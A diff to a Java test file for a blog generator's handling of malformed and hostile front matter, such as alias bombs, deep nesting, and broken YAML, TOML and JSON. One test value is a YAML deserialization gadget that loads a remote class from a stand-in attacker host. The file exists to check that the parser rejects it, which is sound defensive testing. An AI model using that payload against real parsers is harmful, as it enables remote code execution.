@@ -92,8 +92,10 @@ class BadInputTest {
                 "---\ntitle: Huge\ndate: 2024-05-01\nnotes: \"" + "x".repeat(2 * 1024 * 1024) + "\"\n---\nText.\n"));
 
         // YAML that does not parse
-        cases.add(frontMatter("a list never closed", "unclosed-list.md", 5, "the front matter is not valid YAML", "tags: [a, b\nmore: x"));
-        cases.add(frontMatter("a quote never closed", "unclosed-quote.md", 4, "the front matter is not valid YAML", "description: \"no end"));
+        cases.add(frontMatter("a list never closed", "unclosed-list.md", 4,
+                "the front matter is not valid YAML: the list that opens with '[' on this line is not closed properly", "tags: [a, b\nmore: x"));
+        cases.add(frontMatter("a quote never closed", "unclosed-quote.md", 4,
+                "the front matter is not valid YAML: the quoted text that starts on this line never ends", "description: \"no end"));
         cases.add(frontMatter("a tab used for indentation", "tab.md", 5, "the front matter is not valid YAML",
                 "author:\n\tname: Tab"));
         cases.add(frontMatter("a colon in a plain value", "colon.md", 4, "the front matter is not valid YAML",
@@ -106,23 +108,33 @@ class BadInputTest {
                 "---\njust words\n---\nText.\n"));
 
         // hostile YAML
-        cases.add(text("a billion laughs (alias bomb)", "alias-bomb.md", 2, "the front matter is not valid YAML", aliasBomb()));
-        cases.add(frontMatter("a global tag that would build a Java object", "global-tag.md", 4, "the front matter is not valid YAML",
+        cases.add(text("a billion laughs (alias bomb)", "alias-bomb.md", 2,
+                "the front matter repeats lists or mappings through more than 20 aliases", aliasBomb()));
+        cases.add(frontMatter("a global tag that would build a Java object", "global-tag.md", 4,
+                "the front matter is not valid YAML: the tag '!!javax.script.ScriptEngineManager' is not allowed",
                 "image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]"));
-        cases.add(frontMatter("a binary value as the title", "binary-title.md", 4, "'title' is binary data, not text",
-                "title: !!binary aGVsbG8gd29ybGQ="));
-        cases.add(frontMatter("20 000 nested lists", "deep-flow.md", 4, "the front matter is nested more than",
+        cases.add(text("a binary value as the title", "binary-title.md", 2, "'title' is binary data, not text",
+                "---\ntitle: !!binary aGVsbG8gd29ybGQ=\ndate: 2024-05-01\n---\nText.\n"));
+        cases.add(frontMatter("20 000 nested lists", "deep-flow.md", 4, "the front matter is nested too deeply",
                 "x: " + "[".repeat(20_000) + "]".repeat(20_000)));
-        cases.add(frontMatter("300 nested mappings", "deep-block.md", 4, "the front matter is nested more than", deepBlock(300)));
-        cases.add(frontMatter("300 nested sequences on one line", "deep-sequence.md", 4, "the front matter is nested more than",
+        cases.add(frontMatter("300 nested mappings", "deep-block.md", 54, "the front matter is nested too deeply", deepBlock(300)));
+        cases.add(frontMatter("300 nested sequences on one line", "deep-sequence.md", 5, "the front matter is nested too deeply",
                 "x:\n  " + "- ".repeat(300) + "deep"));
-        cases.add(frontMatter("a title that refers to itself", "recursive-title.md", 4, "'title' is a list, not text",
-                "title: &t [*t]"));
+        cases.add(text("a title that refers to itself", "recursive-title.md", 2, "'title' is a list, not text",
+                "---\ntitle: &t [*t]\ndate: 2024-05-01\n---\nText.\n"));
+        cases.add(text("TOML nested 20 000 deep", "deep.toml.md", 2, "the front matter is nested too deeply",
+                "+++\ntitle = \"Deep\"\ndate = 2024-05-01\nx = " + "[".repeat(20_000) + "]".repeat(20_000) + "\n+++\nText.\n"));
+        cases.add(text("JSON nested 20 000 deep", "deep-json.md", 1, "the front matter is nested too deeply",
+                "{\n\"title\": \"Deep\", \"date\": \"2024-05-01\", \"x\": " + "[".repeat(20_000) + "]".repeat(20_000) + "\n}\nText.\n"));
+        cases.add(text("TOML that does not parse", "broken-toml.md", 2, "the front matter is not valid TOML",
+                "+++\ntitle = Unquoted words\ndate = 2024-05-01\n+++\nText.\n"));
+        cases.add(text("JSON with a trailing comma", "broken-json.md", 3, "the front matter is not valid JSON",
+                "{\n\"title\": \"Comma\",\n}\nText.\n"));
 
         // values of the wrong kind
         cases.add(text("no title", "no-title.md", 2, "the post has no title", "---\ndate: 2024-05-01\n---\nText.\n"));
         cases.add(text("an empty title", "empty-title.md", 2, "the post has no title", "---\ntitle: \"  \"\ndate: 2024-05-01\n---\nText.\n"));
-        cases.add(text("a null title", "null-title.md", 2, "the post has no title", "---\ntitle: ~\ndate: 2024-05-01\n---\nText.\n"));
+        cases.add(text("a null title", "null-title.md", 2, "the post has no title", "---\ntitle: null\ndate: 2024-05-01\n---\nText.\n"));
         cases.add(text("a title that is a list", "title-list.md", 2, "'title' is a list, not text", "---\ntitle: [a, b]\ndate: 2024-05-01\n---\nText.\n"));
         cases.add(text("a title that is a map", "title-map.md", 2, "'title' is a mapping, not text",
                 "---\ntitle:\n  en: Hello\n  fr: Bonjour\ndate: 2024-05-01\n---\nText.\n"));
@@ -233,7 +245,7 @@ class BadInputTest {
         TestBlog blog = copyOfTheGoodBlog(dir);
         for (Case bad : cases()) bad.setUp().accept(blog, dir.resolve("outside"));
 
-        TestBlog.Run run = assertTimeoutPreemptively(HANG, () -> blog.build("--keep-going", "--title", "A new title"));
+        TestBlog.Run run = assertTimeoutPreemptively(HANG, () -> blog.build("--keep-going", "--title", "A new title", "--limit", "0"));
 
         assertEquals(Main.OK, run.code(), run.toString());
         for (Case bad : cases()) {
@@ -244,11 +256,15 @@ class BadInputTest {
             assertTrue(run.err().contains(expected), "expected '" + expected + "' in\n" + run.err());
         }
         assertTrue(!run.err().contains("error:"), run.err());
-        String atom = Files.readString(blog.out().resolve("atom.xml"));
-        TestBlog.parseXml(atom.getBytes(StandardCharsets.UTF_8));
-        assertTrue(atom.contains("A new title") && atom.contains("<title>Hello</title>") && atom.contains("<title>Third</title>"));
-        assertTrue(atom.contains("<title>Text image</title>"), "published without a card");
-        assertTrue(!atom.contains("Same two") && !atom.contains("<title>Link</title>"));
+        org.w3c.dom.Document atom = TestBlog.parseXml(Files.readAllBytes(blog.out().resolve("atom.xml")));
+        Set<String> titles = new HashSet<>();
+        org.w3c.dom.NodeList entries = atom.getElementsByTagNameNS("http://www.w3.org/2005/Atom", "entry");
+        for (int i = 0; i < entries.getLength(); i++) {
+            titles.add(((org.w3c.dom.Element) entries.item(i)).getElementsByTagNameNS("http://www.w3.org/2005/Atom", "title").item(0).getTextContent());
+        }
+        // the good posts, the first of two posts with one URL, and posts whose image could not become a card
+        assertEquals(Set.of("Hello", "Second", "Third", "Same one", "Text image", "Empty image"), titles);
+        assertTrue(Files.exists(blog.out().resolve("cards/hello.jpg")));
     }
 
     private static TestBlog copyOfTheGoodBlog(Path dir) throws IOException {
